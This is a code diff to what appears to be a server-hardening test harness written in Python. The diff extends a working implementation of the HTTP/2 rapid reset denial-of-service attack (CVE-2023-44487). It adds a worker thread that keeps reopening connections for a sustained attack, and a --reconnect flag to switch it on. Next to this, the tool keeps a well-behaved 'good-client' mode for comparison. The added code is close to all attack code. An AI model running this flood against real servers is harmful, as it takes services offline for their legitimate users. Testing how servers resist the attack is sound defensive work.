@@ -521,8 +521,29 @@ def _rapid_reset_one(host, port, authority, path, streams, batch, deadline, ling
         _abort(sock)
 
 
+def _rapid_reset_worker(host, port, authority, path, streams, batch, deadline, linger,
+                        reconnect, out):
+    """One attacker thread: one connection, or with `reconnect` a new one each time the
+    server closes the last, until `deadline`. Fills `out` like _rapid_reset_one, summed over
+    its connections, plus "rounds" (connections opened) and "goaways" (every code seen)."""
+    out.update(sent=0, goaway=None, goaways=[], closed=0, error=None, rounds=0)
+    while True:
+        one = {}
+        _rapid_reset_one(host, port, authority, path, streams, batch, deadline, linger, one)
+        out["rounds"] += 1
+        out["sent"] += one.get("sent", 0)
+        if one.get("goaway") is not None:
+            out["goaways"].append(one["goaway"])
+            out["goaway"] = one["goaway"]
+        out["closed"] += 1 if one.get("closed") else 0
+        if one.get("error"):
+            out["error"] = one["error"]
+        if not reconnect or one.get("error") or time.monotonic() >= deadline:
+            return
+
+
 def rapid_reset(host, port, authority, path="/hello", connections=1, streams=1000,
-                seconds=10, batch=100, linger=1.0):
+                seconds=10, batch=100, linger=1.0, reconnect=False):
     """The HTTP/2 rapid reset attack (CVE-2023-44487). Per connection, in a thread each:
     `batch` HEADERS (END_STREAM) each immediately followed by RST_STREAM(CANCEL), flushed in
     one write, then whatever arrived is read without blocking; until `streams` HEADERS were
@@ -532,13 +553,15 @@ def rapid_reset(host, port, authority, path="/hello", connections=1, streams=100
     Frames are built by hand (one stateless HPACK block for every stream) so that Python is
     fast enough to be an attacker. Returns {"sent": HEADERS sent in all, "goaways": [error
     codes received], "closed": connections the server closed, "elapsed": seconds,
-    "connections": n, "errors": [connect failures...], "per_connection": [...]}."""
+    "connections": n, "errors": [connect failures...], "per_connection": [...]}.
+    With `reconnect`, each of the `connections` threads opens a new connection whenever the
+    server closes its last, until `seconds` pass (a sustained attack); "opened" counts them."""
     started = time.monotonic()
     deadline = started + seconds
     outs = [{} for _ in range(connections)]
-    threads = [threading.Thread(target=_rapid_reset_one, daemon=True,
+    threads = [threading.Thread(target=_rapid_reset_worker, daemon=True,
                                 args=(host, port, authority, path, streams, max(1, batch),
-                                      deadline, linger, outs[i]))
+                                      deadline, linger, reconnect, outs[i]))
                for i in range(connections)]
     for t in threads:
         t.start()
@@ -546,8 +569,9 @@ def rapid_reset(host, port, authority, path="/hello", connections=1, streams=100
         t.join(timeout=max(0.0, deadline - time.monotonic()) + linger + 15)
     return {
         "sent": sum(o.get("sent", 0) for o in outs),
-        "goaways": [o["goaway"] for o in outs if o.get("goaway") is not None],
-        "closed": sum(1 for o in outs if o.get("closed")),
+        "goaways": [g for o in outs for g in o.get("goaways", [])],
+        "closed": sum(o.get("closed", 0) for o in outs),
+        "opened": sum(o.get("rounds", 0) for o in outs),
         "elapsed": round(time.monotonic() - started, 3),
         "connections": connections,
         "errors": [o["error"] for o in outs if o.get("error")],
@@ -1359,6 +1383,8 @@ def main(argv=None):
     rr.add_argument("--streams", type=int, default=1000, help="per connection")
     rr.add_argument("--seconds", type=float, default=10)
     rr.add_argument("--batch", type=int, default=100)
+    rr.add_argument("--reconnect", action="store_true",
+                    help="open a new connection each time the server closes one")
     g = sub.add_parser("good-client", help="well-behaved keep-alive client")
     g.add_argument("--host", default="127.0.0.1")
     g.add_argument("--port", type=int, required=True)
@@ -1372,7 +1398,8 @@ def main(argv=None):
     a = p.parse_args(argv)
     if a.cmd == "rapid-reset":
         out = rapid_reset(a.host, a.port, a.authority, path=a.path, connections=a.connections,
-                          streams=a.streams, seconds=a.seconds, batch=a.batch)
+                          streams=a.streams, seconds=a.seconds, batch=a.batch,
+                          linger=0.1 if a.reconnect else 1.0, reconnect=a.reconnect)
         out.pop("per_connection", None)
     else:
         out = good_client(a.host, a.port, a.authority, path=a.path, seconds=a.seconds,
